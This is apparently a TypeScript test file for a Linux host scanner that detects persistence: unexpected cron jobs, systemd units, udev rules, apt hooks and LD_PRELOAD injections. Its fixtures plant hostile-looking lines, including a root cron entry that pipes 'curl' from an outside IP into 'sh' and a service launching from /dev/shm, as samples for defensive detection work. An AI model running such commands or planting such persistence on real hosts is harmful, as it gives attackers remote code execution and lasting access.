import { createHash } from "node:crypto";
import { describe, it } from "node:test";
import { family } from "../plants/family.ts";
import type { Tree } from "../plants/tree.ts";

const owned = [
  "/etc/crontab",
  "/etc/cron.d/e2scrub_all",
  "/usr/lib/systemd/system/ssh.service",
  "/etc/profile.d/bash_completion.sh",
  "/usr/lib/udev/rules.d/60-net.rules",
  "/usr/lib/systemd/system-generators/gen",
];
const checks = family("persistence", {
  "/etc/passwd": "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
  "/etc/group": "root:x:0:\n",
  "/var/lib/dpkg/info/base.list": `${owned.join("\n")}\n`.replace(
    "/usr/lib/systemd/system/ssh",
    "/lib/systemd/system/ssh",
  ),
  "/usr/sbin/sshd": { text: "\0", mode: 0o755 },
  "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
  "/etc/cron.d/e2scrub_all": "30 3 * * 0 root test -e /run/systemd/system || /usr/sbin/sshd\n",
  "/usr/lib/systemd/system/ssh.service": "[Service]\nExecStart=/usr/sbin/sshd -D\n",
  "/lib": { link: "usr/lib" },
  "/etc/systemd/system/multi-user.target.wants/ssh.service": { link: "/lib/systemd/system/ssh.service" },
  "/usr/lib/systemd/system-generators/gen": { text: "\x7fELF\0", mode: 0o755 },
  "/etc/profile.d/bash_completion.sh": "[ -f /usr/x ] && . /usr/x\n",
  "/usr/lib/udev/rules.d/60-net.rules": 'ACTION=="add", RUN+="/usr/sbin/sshd"\n',
  "/etc/udev/rules.d/70-names.rules": 'SUBSYSTEM=="net", NAME="lan0"\n',
  "/etc/modprobe.d/deny.conf": "install usb-storage /bin/false\ninstall dccp /usr/bin/true\n",
  "/etc/apt/apt.conf.d/docker-clean":
    'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true"; };\n',
  "/home/alice/.bashrc": "alias ll='ls -l'\n",
});
const red = (name: string, tree: Tree, place: { file: string; line?: number }) =>
  checks.turnsRed(`host.persistence.${name}`, tree, place);

describe("automatic execution", () => {
  it("from packages alone passes every check", () => checks.isGreen());

  it("inside of every program is named", () =>
    red("preload", { "/etc/ld.so.preload": "# c\n/usr/local/lib/libx.so\n" }, { file: "/etc/ld.so.preload", line: 2 }));

  it("of suspicious commands is named, wherever they stand", async () => {
    const job = { "/etc/cron.d/e2scrub_all": "* * * * * root curl -s http://203.0.113.5/a | sh\n" };
    await red("suspicious", job, { file: "/etc/cron.d/e2scrub_all", line: 1 });
    const unit = { "/usr/lib/systemd/system/ssh.service": "[Service]\nExecStart=-/dev/shm/.x/run\n" };
    await red("suspicious", unit, { file: "/usr/lib/systemd/system/ssh.service", line: 2 });
    await red(
      "suspicious-home",
      { "/home/alice/.bashrc": "\nexport LD_PRELOAD=/home/alice/x.so\n" },
      { file: "/home/alice/.bashrc", line: 2 },
    );
    await red("suspicious", { "/etc/environment": "LD_PRELOAD=/opt/x.so\n" }, { file: "/etc/environment", line: 1 });
  });

  it("as root of a program that others may change is named", async () => {
    const program = { "/opt/job": { text: "#!/bin/sh\n", mode: 0o777 } };
    await red(
      "open-program",
      { ...program, "/etc/crontab": "\n@daily root /opt/job --all\n" },
      { file: "/etc/crontab", line: 2 },
    );
    const unit = "/usr/lib/systemd/system/ssh.service";
    await red(
      "open-program",
      { ...program, [unit]: "[Service]\nExecStartPre=-/opt/job\nExecStart=/usr/sbin/sshd\n" },
      { file: unit, line: 2 },
    );
    await checks.says(
      "host.persistence.open-program",
      { ...program, [unit]: "[Service]\nUser=www\nExecStart=/opt/job\n" },
      "pass",
    );
  });

  it("of libraries from a folder that others may change is named", () =>
    red(
      "open-library",
      { "/etc/ld.so.conf.d/x.conf": "# c\n/opt/lib\n", "/opt/lib": { mode: 0o777 } },
      { file: "/etc/ld.so.conf.d/x.conf", line: 2 },
    ));

  it("by time that no package brought is named", async () => {
    await red(
      "cron",
      { "/etc/cron.d/own": "# c\n1 1 * * * root /usr/sbin/sshd\n" },
      { file: "/etc/cron.d/own", line: 2 },
    );
    await red(
      "cron",
      { "/var/spool/cron/crontabs/alice": "@daily /bin/true\n" },
      { file: "/var/spool/cron/crontabs/alice", line: 1 },
    );
    await red("cron", { "/etc/cron.daily/own": { text: "#!/bin/sh\n", mode: 0o755 } }, { file: "/etc/cron.daily/own" });
    await red(
      "at",
      { "/var/spool/cron/atjobs/a0000101c2f3a4": "#!/bin/sh\n# atrun uid=0 gid=0\n/bin/true\n" },
      { file: "/var/spool/cron/atjobs/a0000101c2f3a4", line: 3 },
    );
  });

  it("that was declared passes, as long as it holds what was declared", async () => {
    const file = "/etc/cron.d/own";
    const text = "1 1 * * * root /usr/sbin/sshd\n";
    const digest = createHash("sha256").update(text).digest("hex");
    const declared = (line: string, mode = 0o644) => ({
      [file]: text,
      "/etc/tokiwa/started": { text: `# ours\n${line}\n`, mode },
    });
    await checks.says("host.persistence.cron", declared(`${file}  # nightly`), "pass");
    await checks.says("host.persistence.cron", declared(`${file} sha256:${digest} # nightly`), "pass");
    await red("cron", declared(`${file} sha256:${"0".repeat(64)}`), { file, line: 1 });
    await red("cron", declared(file, 0o666), { file, line: 1 });
    const unit = "/etc/systemd/system/own.service";
    await checks.says(
      "host.persistence.units",
      { [unit]: "[Service]\nExecStart=/usr/sbin/sshd\n", "/etc/tokiwa/started": `${unit}\n` },
      "pass",
    );
  });

  it("by a drop-in that narrows a service passes, and by one that makes it run something else is named", async () => {
    const dropIn = "/etc/systemd/system/nginx.service.d/own.conf";
    const narrow = "# ours\n[Service]\nProtectKernelModules=yes\nMemoryMax=1G\n[Unit]\nAfter=time-sync.target\n";
    await checks.says("host.persistence.units", { [dropIn]: narrow }, "pass");
    for (const line of [
      "Environment=LD_PRELOAD=/opt/x.so",
      "ExecStartPost=/opt/x",
      "RootDirectory=/opt",
      "User=root",
    ]) {
      await red("units", { [dropIn]: `[Service]\n${line}\n` }, { file: dropIn });
    }
  });

  it("of which the table is malformed is named", () =>
    red("cron-well-formed", { "/etc/cron.d/own": "# c\n* * * root\n" }, { file: "/etc/cron.d/own", line: 2 }));

  it("by systemd that no package brought is named", async () => {
    const unit = "/etc/systemd/system/own.service";
    await red("units", { [unit]: "[Service]\nExecStart=/usr/sbin/sshd\n" }, { file: unit, line: 2 });
    const part = "/etc/systemd/system/ssh.service.d/own.conf";
    await red("units", { [part]: "[Service]\nExecStartPre=/bin/true\n" }, { file: part, line: 2 });
    await red(
      "generators",
      { "/etc/systemd/system-generators/own": { text: "#!/bin/sh\n", mode: 0o755 } },
      { file: "/etc/systemd/system-generators/own" },
    );
    const home = "/home/alice/.config/systemd/user/own.timer";
    await red("user-units", { [home]: "[Timer]\nOnCalendar=daily\n" }, { file: home, line: 2 });
  });

  it("at login and at boot that no package brought is named", async () => {
    await red("shell", { "/etc/profile.d/own.sh": "true\n" }, { file: "/etc/profile.d/own.sh" });
    await red("init", { "/etc/rc.local": { text: "#!/bin/sh\n", mode: 0o755 } }, { file: "/etc/rc.local" });
  });

  it("on events that no package brought is named", async () => {
    const rule = "/etc/udev/rules.d/99-own.rules";
    await red("udev", { [rule]: 'ACTION=="add", RUN+="/opt/x"\n' }, { file: rule, line: 1 });
    const hook = "/etc/apt/apt.conf.d/99own";
    await red("hooks", { [hook]: '// c\nDPkg::Post-Invoke {"/opt/x";};\n' }, { file: hook, line: 2 });
    await red(
      "hooks",
      { "/etc/network/if-up.d/own": { text: "#!/bin/sh\n", mode: 0o755 } },
      { file: "/etc/network/if-up.d/own" },
    );
  });

  it("cannot be told where another package manager is used", () =>
    checks.says("host.persistence.cron", { "/var/lib/dpkg/info/base.list": null }, "error"));

  it("has a plant for every check", () => checks.isCovered());
});
